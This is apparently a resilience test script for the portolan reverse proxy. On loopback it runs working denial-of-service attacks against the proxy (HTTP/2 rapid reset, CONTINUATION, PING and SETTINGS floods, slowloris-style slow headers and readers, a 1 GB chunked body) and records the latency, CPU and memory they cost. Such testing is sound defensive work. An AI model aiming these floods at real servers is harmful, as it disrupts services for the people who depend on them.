"""Clients that attack, and what it costs the others: memory, CPU and well-behaved clients' latency. All on loopback.

    cargo build --release && python3 tests/attacks.py [PORTOLAN [ATTACK...]]

Outside CI, for it needs nginx (Debian: nginx-light) and takes minutes. Each attack is made by four processes that connect again whenever they are cut off, for SECONDS, against a proxy of its own, while a
well-behaved client sends 200 requests a second over HTTP/1.1 on four connections. A row shows its 50th and 99th percentile before and
during the attack, requests that failed, the CPU the proxy used, how far its memory grew, and how many connections the attackers used.
Attackers yield the CPU to the others (nice), for they would be elsewhere.
"""

import contextlib
import multiprocessing
import os
import re
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
import urllib.request
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
PROXY, ADMIN, GATEWAY = 22451, 22452, 22453
ATTACKERS, SECONDS, RATE = 4, 6, 200
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """A field that is not indexed, with lengths of one byte (RFC 7541, section 6.2.2)."""
    return bytes([0, len(name)]) + name + bytes([len(value)]) + value


def get(stream, path=b"/", flags=END_STREAM):
    # :method GET, :scheme http, :path, :authority (RFC 7541, appendix A).
    block = b"\x82\x86" + b"\x04" + bytes([len(path)]) + path + b"\x01\x01a"
    return frame(HEADERS, END_HEADERS | flags, stream, block)


def streams(make, count=2000):
    return b"".join(make(2 * number + 1) for number in range(count))


def opened(*settings):
    """A connection of HTTP/2 that announces settings."""
    client = socket.create_connection(("127.0.0.1", PROXY), 5)
    client.sendall(PREFACE + frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", *setting) for setting in settings)))
    return client


def flood(first, again, *settings):
    """An attack: the first bytes, and bytes again and again."""

    def attack():
        with opened(*settings) as client:
            client.sendall(first)
            while again:
                client.sendall(again)

    return attack


def endless_head():
    with socket.create_connection(("127.0.0.1", PROXY), 5) as client:
        client.sendall(b"GET / HTTP/1.1\r\nHost: a\r\n")
        lines = b"".join(b"X-%d: %s\r\n" % (number, b"a" * 1000) for number in range(100))
        for _ in range(1000):
            client.sendall(lines)


def endless_body():
    """1 GB in chunks."""
    with socket.create_connection(("127.0.0.1", PROXY), 5) as client:
        client.sendall(b"POST /upload HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n")
        chunk = b"10000\r\n" + bytes(1 << 16) + b"\r\n"
        for _ in range(1 << 14):
            client.sendall(chunk)
        client.sendall(b"0\r\n\r\n")
        client.recv(100)


def slow_heads():
    clients = [socket.create_connection(("127.0.0.1", PROXY), 5) for _ in range(500)]
    for client in clients:
        client.sendall(b"GET / HTTP/1.1\r\nHost: a\r\n")
    while True:
        for client in clients:
            client.send(b"x")
        time.sleep(1)


def slow_readers():
    """Connections with a hundred responses each, of which nothing is read."""
    clients = [opened((4, 0)) for _ in range(50)]
    for client in clients:
        client.sendall(b"".join(get(2 * number + 1, b"/large") for number in range(100)))
    time.sleep(SECONDS)
    return clients


EMPTY = frame(0, 0, 1)
POST = frame(HEADERS, END_HEADERS, 1, b"\x83\x86\x84\x01\x01a")
ATTACKS = {
    "rapid reset": flood(b"", streams(lambda stream: get(stream) + frame(RESET, 0, stream, b"\0\0\0\x08"))),
    "provoked resets": flood(b"", streams(lambda stream: get(stream) + frame(WINDOW_UPDATE, 0, stream, b"\x7f\xff\xff\xff"))),
    "endless CONTINUATION": flood(frame(HEADERS, END_STREAM, 1, b"\x82"), 100 * frame(CONTINUATION, 0, 1, literal(b"x", b"a" * 100) * 9)),
    "PING": flood(b"", 2000 * frame(PING, 0, 0, bytes(8))),
    "SETTINGS": flood(b"", 2000 * frame(SETTINGS, 0, 0)),
    "PRIORITY": flood(b"", 2000 * frame(PRIORITY, 0, 1, b"\0\0\0\3\x10")),
    "empty DATA": flood(POST, 2000 * EMPTY),
    "more streams than allowed": flood(b"", streams(get)),
    "endless head": endless_head,
    "1 GB in chunks": endless_body,
    "slow heads": slow_heads,
    "slow readers": slow_readers,
}


def start_gateway(folder):
    (folder / "large").write_bytes(bytes(1 << 20))
    (folder / "nginx.conf").write_text(
        f"""daemon off; worker_processes 1; pid {folder}/pid; error_log {folder}/error.log crit; worker_rlimit_nofile 60000;
        events {{ worker_connections 50000; }}
        http {{
          access_log off; client_body_temp_path {folder}; proxy_temp_path {folder}; client_max_body_size 0;
          fastcgi_temp_path {folder}; uwsgi_temp_path {folder}; scgi_temp_path {folder};
          server {{
            listen 127.0.0.1:{GATEWAY} backlog=4096; root {folder};
            location / {{ return 200 "hi"; }}
            location = /large {{ try_files /large =404; }}
          }}
        }}"""
    )
    return subprocess.Popen(["nginx", "-p", folder, "-c", folder / "nginx.conf"], stderr=subprocess.DEVNULL)


def attacker(name, end, count):
    os.nice(15)
    while time.monotonic() < end.value:
        count.value += 1
        with contextlib.suppress(OSError):
            ATTACKS[name]()


def well_behaved(seconds, found):
    """Percentiles of latency in milliseconds, and how many requests failed."""
    took, failed = [], []

    def client():
        stream = None
        due = time.monotonic()
        end = due + seconds
        while due < end:
            time.sleep(max(0, due - time.monotonic()))
            start = time.monotonic()
            try:
                stream = stream or socket.create_connection(("127.0.0.1", PROXY), 5)
                stream.sendall(b"GET / HTTP/1.1\r\nHost: a\r\n\r\n")
                answer = b""
                while not answer.endswith(b"\r\n\r\nhi"):
                    piece = stream.recv(4096)
                    if not piece or not (answer + piece).startswith(b"HTTP/1.1 200"):
                        raise OSError(answer + piece[:20])
                    answer += piece
                took.append(time.monotonic() - start)
            except OSError as error:
                failed.append(repr(error))
                stream = None
            due += 4 / RATE

    threads = [threading.Thread(target=client) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    took.sort()
    at = lambda part: round(1000 * took[int(part * (len(took) - 1))], 2) if took else None
    found.put((at(0.5), at(0.99), len(failed), failed[:2]))


def measured(seconds):
    found = multiprocessing.Queue()
    process = multiprocessing.Process(target=well_behaved, args=(seconds, found))
    process.start()
    result = found.get()
    process.join()
    return result


def memory(pid, what):
    return int(re.search(what + r":\s+(\d+)", Path(f"/proc/{pid}/status").read_text())[1]) / 1024


def cpu(pid):
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def wait_until_it_serves():
    end = time.monotonic() + 20
    while time.monotonic() < end:
        with contextlib.suppress(OSError):
            return urllib.request.urlopen(f"http://127.0.0.1:{PROXY}/").read()
        time.sleep(0.05)
    raise SystemExit("FAILED: the proxy does not serve")


def row(portolan, config, name):
    proxy = subprocess.Popen([portolan, "serve", "--config", config], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        wait_until_it_serves()
        before = measured(3)
        # The peak counts from here.
        Path(f"/proc/{proxy.pid}/clear_refs").write_text("5")
        size, used = memory(proxy.pid, "VmRSS"), cpu(proxy.pid)
        end, counts = multiprocessing.Value("d", time.monotonic() + SECONDS), [multiprocessing.Value("i") for _ in range(ATTACKERS)]
        attackers = [multiprocessing.Process(target=attacker, args=(name, end, count)) for count in counts]
        for process in attackers:
            process.start()
        during = measured(SECONDS)
        grown, used = memory(proxy.pid, "VmHWM") - size, cpu(proxy.pid) - used
        for process in attackers:
            process.terminate()
            process.join()
        print(
            f"{name:26} {before[0]:5} {before[1]:6}   {during[0]!s:>5} {during[1]!s:>6} {during[2]:7}"
            f" {100 * used / SECONDS:6.0f} % {grown:7.1f} MiB {sum(count.value for count in counts):8}  {during[3] or ''}",
            flush=True,
        )
    finally:
        proxy.terminate()
        proxy.wait(20)


def main():
    portolan = Path(sys.argv[1] if len(sys.argv) > 1 else ROOT / "target/release/portolan").resolve()
    with tempfile.TemporaryDirectory(prefix="portolan-attacks-") as folder:
        gateway = start_gateway(Path(folder))
        config = Path(folder) / "portolan.yaml"
        config.write_text(
            f"""listeners: [{{ address: 127.0.0.1:{PROXY}, http2: prior-knowledge }}]
admin: {{ address: 127.0.0.1:{ADMIN} }}
access_log: off
lame_duck: 0s
drain_time: 1s
services:
  shop: {{ regions: [{{ region: westeurope, gateway: "http://127.0.0.1:{GATEWAY}" }}], health_check: off }}
routes: [{{ host: "*", service: shop }}]
"""
        )
        print(f"{'':26} {'before':>12}   {'during':>12}  failed      CPU       memory  attackers' connections")
        print(f"{'':26} {'p50':>5} {'p99':>6}   {'p50':>5} {'p99':>6}   (latency in ms)")
        for name in ATTACKS:
            if len(sys.argv) < 3 or any(word in name for word in sys.argv[2:]):
                row(portolan, config, name)
        gateway.terminate()
        gateway.wait(20)


if __name__ == "__main__":
    main()
